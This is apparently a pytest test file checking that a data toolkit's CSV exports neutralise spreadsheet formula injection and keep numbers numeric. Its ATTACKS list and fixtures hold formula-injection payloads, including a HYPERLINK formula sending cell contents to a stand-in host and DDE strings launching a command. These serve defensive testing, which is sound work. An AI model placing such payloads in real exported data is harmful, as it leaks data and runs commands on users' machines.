"""Every CSV export goes through `stkit.exports`: formula text made inert, numbers kept numbers."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from stkit.cli import main
from stkit.cli._output import emit
from stkit.exports import csv_text, safe_cell, safe_frame, write_csv

SRC = Path(__file__).parents[2] / "src" / "stkit"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def _safe(cell: str) -> bool:
    return not cell.startswith(FORMULA_STARTS) or PLAIN_NUMBER.fullmatch(cell) is not None


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_text_is_made_inert(attack: str) -> None:
    assert safe_cell(attack) == "'" + attack
    text = csv_text(pl.DataFrame({"note": [attack]}))
    (cell,) = [row[0] for row in csv.reader(io.StringIO(text))][1:]
    assert cell == "'" + attack


@pytest.mark.parametrize("number", ["-2.5", "+3", "-1e3", "-0", ".5", "-.5"])
def test_numbers_written_as_text_stay_numbers(number: str) -> None:
    assert safe_cell(number) == number
    assert safe_frame(pl.DataFrame({"value": [number]}))["value"].to_list() == [number]


def test_numeric_columns_are_untouched() -> None:
    frame = pl.DataFrame({"value": [-2.5, 3.0], "rank": [-1, 2], "note": ["=1", "ok"]})
    text = csv_text(frame)
    assert text.splitlines() == ["value,rank,note", "-2.5,-1,'=1", "3.0,2,ok"]


def test_lists_are_joined_and_made_safe(tmp_path: Path) -> None:
    frame = pl.DataFrame({"names": [["=a", "b"]]})
    write_csv(frame, tmp_path / "x.csv")
    rows = list(csv.reader(io.StringIO((tmp_path / "x.csv").read_text(encoding="utf-8"))))
    assert rows == [["names"], ["'=a, b"]]


@given(st.lists(st.text(max_size=12), min_size=1, max_size=5))
def test_every_exported_text_cell_is_safe(cells: list[str]) -> None:
    text = csv_text(pl.DataFrame({"c": cells}))
    rows = list(csv.reader(io.StringIO(text)))[1:]
    for row, original in zip(rows, cells, strict=True):
        (cell,) = row or [""]
        assert _safe(cell)
        assert cell in (original, "'" + original) or original == "" or "\r" in original


def test_emit_csv_uses_the_safe_writer() -> None:
    out = io.StringIO()
    emit(pl.DataFrame({"unit": ["=cmd|x"], "value": [-2.5]}), "csv", out)
    assert out.getvalue().splitlines() == ["unit,value", "'=cmd|x,-2.5"]


def test_no_csv_or_excel_written_outside_the_one_writer() -> None:
    writers = re.compile(r"\.write_csv\(|\.write_excel\(|csv\.writer\(")
    offenders = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if path.name != "exports.py" and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


COMMANDS = [
    ["programmes", "targets", "P1"],
    ["programmes", "tasks", "P1"],
    ["programmes", "status", "P1"],
    ["progress"],
    ["tasks", "--detail"],
    ["units"],
    ["index", "profile", "hai-phong"],
]


@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_cli_csv_exports_are_safe(command: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    assert main([*command, "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert len(rows) > 1
    assert all(_safe(cell) for row in rows for cell in row)


def test_validate_csv_keeps_a_negative_number_numeric(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = tmp_path / "obs.csv"
    bad.write_text(
        "unit,indicator,period,value,source\n"
        "hai-phong,T1401,2023,-2.5,=HYPERLINK(1)\n"
        "=cmd|x,T1401,2023,5,s\n",
        encoding="utf-8",
    )
    assert main(["validate", "--observations", str(bad), "--format", "csv", "--lang", "en"]) == 2
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    values = {(r["column"], r["rule"]): r["value"] for r in rows}
    assert values[("value", "count_negative")] == "-2.5"
    assert values[("unit", "unknown_unit")] == "'=cmd|x"
    assert all(_safe(cell) for r in rows for cell in r.values())
